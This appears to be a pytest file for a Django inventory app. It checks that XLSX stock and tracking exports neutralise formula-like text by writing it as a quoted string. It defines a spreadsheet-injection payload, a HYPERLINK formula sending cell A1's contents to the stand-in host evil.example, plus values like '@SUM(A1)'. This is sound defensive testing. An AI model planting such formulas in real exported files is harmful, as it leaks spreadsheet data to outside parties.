"""The file platforms' XLSX exports never write platform or buyer text as a live formula."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from channels import notices
from channels.connectors.files import export_stock, export_tracking
from channels.models import SkuComponent, SkuMapping
from channels.sellable import recompute_sellable
from inventory import services as stock

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()][1:]


@pytest.fixture
def feiniu(make_shop, make_product, main_warehouse):
    shop = make_shop(code="FN01", platform="feiniu")
    product = make_product()
    stock.adjust(warehouse_id=main_warehouse.id, product_id=product.id, quantity=9, actor=None)
    mapping = SkuMapping.objects.create(shop=shop, platform_sku=LINK)
    SkuComponent.objects.create(mapping=mapping, product=product, quantity=Decimal("1"))
    recompute_sellable([product.id])
    return shop


def test_the_stock_export_writes_a_formula_like_sku_as_text(feiniu):
    (row,) = cells(export_stock(shop=feiniu, actor="t").content)
    assert row[0].data_type == "s" and row[0].value == "'" + LINK
    assert row[1].value == 9  # numbers stay numbers


def test_the_tracking_export_writes_formula_like_text_as_text(feiniu):
    notices.enqueue(
        shop=feiniu,
        kind="shipment",
        dedupe_key="shipment:1",
        payload={
            "order_no": "SO1",
            "platform_order_no": LINK,
            "carrier": "+SF",
            "tracking_no": "@SUM(A1)",
            "platform_line_ids": ["-1"],
            "is_split": False,
        },
    )
    (row,) = cells(export_tracking(shop=feiniu, actor="t").content)
    assert [c.data_type for c in row[:5]] == ["s"] * 5
    assert [c.value for c in row[1:5]] == ["'" + LINK, "'+SF", "'@SUM(A1)", "-1"]
